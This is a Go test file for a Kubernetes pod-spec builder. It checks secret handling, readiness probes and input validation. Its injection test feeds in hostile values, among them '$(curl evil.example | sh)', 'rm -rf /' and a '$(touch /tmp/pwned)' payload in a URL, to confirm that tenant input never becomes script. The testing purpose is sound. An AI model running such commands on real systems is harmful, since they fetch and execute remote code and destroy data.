package podspec

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"

	"github.com/tidegate/tidegate/shared/apps"
)

func TestPodHoldsNoSecretValue(t *testing.T) {
	l := fixture()
	pod, err := Pod(l)
	if err != nil {
		t.Fatalf("Pod: %v", err)
	}
	raw, err := json.Marshal(pod)
	if err != nil {
		t.Fatal(err)
	}
	secret, err := Secret(l)
	if err != nil {
		t.Fatalf("Secret: %v", err)
	}
	held := map[string]bool{}
	for _, b := range secret.Data {
		held[string(b)] = true
	}
	values := []string{l.HostToken}
	for _, v := range l.Env {
		values = append(values, v)
	}
	for _, v := range values {
		if strings.Contains(string(raw), v) || strings.Contains(string(raw), jsonText(t, v)) {
			t.Errorf("the pod holds the secret value %q", v)
		}
		if !held[v] {
			t.Errorf("the Secret does not hold the value %q", v)
		}
	}
	refs := pod.Spec.Containers[0].EnvFrom
	if len(refs) != 1 || refs[0].SecretRef == nil || refs[0].SecretRef.Name != secret.Name {
		t.Errorf("the app container's envFrom = %+v, want the Secret %q", refs, secret.Name)
	}
}

// jsonText is v as it appears inside a JSON string, for values JSON escapes.
func jsonText(t *testing.T, v string) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Trim(string(b), `"`)
}

// TestInputsNeverBecomeScript: whatever the names, URL and command, the scripts the containers
// run are the same fixed text, and the inputs reach them only as variables and arguments.
func TestInputsNeverBecomeScript(t *testing.T) {
	plain, err := Pod(fixture())
	if err != nil {
		t.Fatalf("Pod(fixture()): %v", err)
	}
	odd := fixture()
	odd.Org = `acme'; rm -rf ~ #`
	odd.App = "$(curl evil.example | sh)`id`\n\"x\""
	odd.SourcesURL = `https://sources.example/x?sig='$(touch /tmp/pwned)'"&a=;b`
	odd.Command = []string{"node", "server.js; rm -rf /", "$HOME"}
	pod, err := Pod(odd)
	if err != nil {
		t.Fatalf("Pod(odd names): %v", err)
	}
	if diff := cmp.Diff(plain.Spec.InitContainers[0].Command, pod.Spec.InitContainers[0].Command); diff != "" {
		t.Errorf("the install command changed with the inputs (-fixture +odd):\n%s", diff)
	}
	wantApp := append(slices.Clone(plain.Spec.Containers[0].Command), odd.Command...)
	if diff := cmp.Diff(wantApp, pod.Spec.Containers[0].Command); diff != "" {
		t.Errorf("the app command is not the fixed script followed by Command as arguments (-want +got):\n%s", diff)
	}
	var url string
	for _, e := range pod.Spec.InitContainers[0].Env {
		if e.Name == "TIDEGATE_SOURCES_URL" {
			url = e.Value
		}
	}
	if url != odd.SourcesURL {
		t.Errorf("TIDEGATE_SOURCES_URL = %q, want the URL as given, %q", url, odd.SourcesURL)
	}
}

// TestReadinessProbe: the app's readiness check is the app container's probe, an HTTP GET on the
// pod's own address or its command run as is; none without a check. What a tenant writes never
// picks the probe's host or headers, so the kubelet probes only the host's own pod.
func TestReadinessProbe(t *testing.T) {
	l := fixture()
	pod, err := Pod(l)
	if err != nil {
		t.Fatal(err)
	}
	if p := pod.Spec.Containers[0].ReadinessProbe; p != nil {
		t.Errorf("a launch without a check has probe %+v, want none", p)
	}

	l.Ready = &apps.Ready{Path: "/healthz?x=1", Port: 8080}
	if pod, err = Pod(l); err != nil {
		t.Fatal(err)
	}
	p := pod.Spec.Containers[0].ReadinessProbe
	if p == nil || p.HTTPGet == nil || p.Exec != nil {
		t.Fatalf("HTTP check: probe %+v, want an HTTP GET", p)
	}
	if g := p.HTTPGet; g.Path != "/healthz?x=1" || g.Port.IntValue() != 8080 || g.Host != "" || len(g.HTTPHeaders) > 0 || g.Scheme != corev1.URISchemeHTTP {
		t.Errorf("HTTP check: %+v, want GET /healthz?x=1 on the pod's own port 8080, no host or headers", g)
	}
	if p.PeriodSeconds != 10 || p.FailureThreshold != 3 || p.TimeoutSeconds != 5 {
		t.Errorf("probe timing %d s × %d, timeout %d s; want 10 s × 3, 5 s", p.PeriodSeconds, p.FailureThreshold, p.TimeoutSeconds)
	}

	l.Ready = &apps.Ready{Exec: []string{"sh", "-c", "curl -f localhost:8080 && rm -rf / ; $(id)"}}
	if pod, err = Pod(l); err != nil {
		t.Fatal(err)
	}
	p = pod.Spec.Containers[0].ReadinessProbe
	if p == nil || p.Exec == nil || p.HTTPGet != nil || !slices.Equal(p.Exec.Command, l.Ready.Exec) {
		t.Errorf("exec check: probe %+v, want the command as given, run as is", p)
	}
	l.Ready.Exec[0] = "changed"
	if p.Exec.Command[0] != "sh" {
		t.Errorf("the probe shares its command with the launch: changing one changed the other")
	}
}

func TestBuildersRefuseABadCheck(t *testing.T) {
	for _, r := range []apps.Ready{
		{Port: 8080, Path: "/", Exec: []string{"true"}},
		{Port: 0, Path: "/"},
		{Port: 70000, Path: "/"},
		{Port: 8080, Path: "no-slash"},
		{Exec: []string{""}},
	} {
		l := fixture()
		l.Ready = &r
		if _, err := Pod(l); !errors.Is(err, ErrInvalidLaunch) || !strings.Contains(err.Error(), "Ready: tidegate.json: ready") {
			t.Errorf("Pod with check %+v: %v, want ErrInvalidLaunch naming the check's field", r, err)
		}
	}
}
